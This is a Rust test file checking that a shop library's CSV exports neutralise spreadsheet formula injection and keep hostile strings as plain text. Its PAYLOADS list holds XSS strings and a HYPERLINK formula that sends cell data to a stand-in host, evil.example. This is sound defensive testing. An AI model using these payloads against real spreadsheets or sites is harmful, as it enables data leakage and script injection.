//! Hostile strings in operator and visitor data: CSV exports neutralise
//! formula injection and keep every payload as plain text that reads back
//! unchanged.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code
#![cfg(all(feature = "admin", not(target_arch = "wasm32")))]

use stammkunde::orders::{csv, read, Format, LineItem, Order, ReadOptions};

/// Strings a customer or an operator could type into a shop.
pub const PAYLOADS: [&str; 11] = [
    "<img src=x onerror=\"window.__xss=1\">",
    "\"><script>window.__xss=1</script>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")",
    "=1+1",
    "+49 30 1234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'=already protected",
    "\u{ff1d}1+1",
    "Müller; \"Kaffee\"\nzweite Zeile",
];

/// Splits CSV text into rows of cells (RFC 4180 quotes, `sep` separator).
fn cells(text: &str, sep: char) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell) = (Vec::new(), String::new());
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            c if c == sep && !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

/// A cell a spreadsheet would run as a formula.
fn is_formula(cell: &str) -> bool {
    cell.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ])
}

fn hostile_orders() -> Vec<Order> {
    PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, p)| {
            let mut o = Order::new(
                &format!("{p}#{i}"),
                &format!("{p}{i}"),
                1_793_525_400,
                1_000,
                "EUR",
            );
            o.items.push(LineItem {
                product_id: format!("{p}-sku"),
                sku: Some(format!("{p}-sku")),
                name: p.to_string(),
                category: Some(p.to_string()),
                quantity: 1.0,
                unit_price: 1_000,
            });
            o
        })
        .collect()
}

#[test]
fn order_csv_export_neutralises_formulas_and_reads_back() {
    let orders = hostile_orders();
    let text = csv::write_german(&orders);
    let rows = cells(&text, ';');
    assert_eq!(rows.len(), orders.len() + 1);
    for row in &rows[1..] {
        for cell in row {
            assert!(!is_formula(cell), "formula cell {cell:?} in {row:?}");
        }
    }
    // The protected cells are the payload behind one apostrophe.
    assert!(rows[1..].iter().any(|r| r[2] == "'=1+13"), "{:?}", rows[4]);
    let back = read(Format::Csv, &text, &ReadOptions::default()).unwrap();
    assert_eq!(back.rejected, 0, "{:?}", back.errors);
    // Everything reads back as it was, except that the reader trims cells
    // and takes a protective apostrophe off.
    for (a, b) in orders.iter().zip(&back.orders) {
        let clean = |s: &str| {
            let t = s.trim();
            t.strip_prefix('\'')
                .filter(|r| is_formula(r))
                .map_or(t, str::trim)
                .to_string()
        };
        assert_eq!(clean(&a.id), b.id);
        assert_eq!(clean(&a.customer), b.customer);
        assert_eq!(clean(&a.items[0].name), b.items[0].name);
        assert_eq!(
            a.items[0].category.as_deref().map(clean),
            b.items[0].category.clone()
        );
    }
}

#[test]
fn csv_cells_with_payloads_are_read_as_plain_text() {
    // An import whose cells carry payloads: they stay text, never an error.
    let mut text = String::from("Bestellnummer;Datum;Kunde;Betrag;Artikel\n");
    for (i, p) in PAYLOADS.iter().enumerate() {
        let quoted = format!("\"{}\"", p.replace('"', "\"\""));
        text.push_str(&format!("{i};01.11.2026;{quoted};1,00;{quoted}\n"));
    }
    let import = read(Format::Csv, &text, &ReadOptions::default()).unwrap();
    assert_eq!(
        (import.used, import.rejected),
        (PAYLOADS.len(), 0),
        "{:?}",
        import.errors
    );
    assert_eq!(import.orders[0].customer, PAYLOADS[0]);
    assert_eq!(import.orders[1].customer, PAYLOADS[1]);
}

mod segments {
    use super::{cells, hostile_orders, is_formula, PAYLOADS};
    use stammkunde::segments::export::{customers_csv, segments_csv, CsvOptions};
    use stammkunde::segments::{Config, Lang, OrderTable, RuleDef, Segmentation};
    use std::sync::Arc;

    /// Customer keys, product names and categories, rule ids and names all
    /// carry payloads; no exported cell starts like a formula and each
    /// payload is in the export as text.
    #[test]
    fn segment_exports_neutralise_formulas_in_every_text() {
        let orders = hostile_orders();
        let config = Config {
            as_of: Some(1_793_525_400 + 86_400),
            categories: PAYLOADS.iter().map(|p| p.to_string()).collect(),
            products: vec![format!("{}-sku", PAYLOADS[2])],
            rules: PAYLOADS
                .iter()
                .enumerate()
                .map(|(i, p)| RuleDef {
                    id: format!("{p}{i}"),
                    name: p.to_string(),
                    rule: "number_of_orders >= 1".into(),
                })
                .collect(),
            ..Config::default()
        };
        let seg =
            Segmentation::compute(Arc::new(OrderTable::from_orders(&orders)), &config).unwrap();
        for lang in [Lang::De, Lang::En] {
            let sep = if lang == Lang::De { ';' } else { ',' };
            let opts = CsvOptions {
                lang,
                ..CsvOptions::default()
            };
            for text in [customers_csv(&seg, &opts), segments_csv(&seg, &opts)] {
                let rows = cells(&text, sep);
                for row in &rows {
                    for cell in row {
                        assert!(
                            !is_formula(cell),
                            "{lang:?}: formula cell {cell:?} in {row:?}"
                        );
                    }
                }
                assert!(text.contains("'=1+1"), "{text}");
            }
        }
        let overview = segments_csv(&seg, &CsvOptions::default());
        assert!(
            overview.contains("<img src=x onerror=\"\"window.__xss=1\"\">"),
            "{overview}"
        );
    }
}
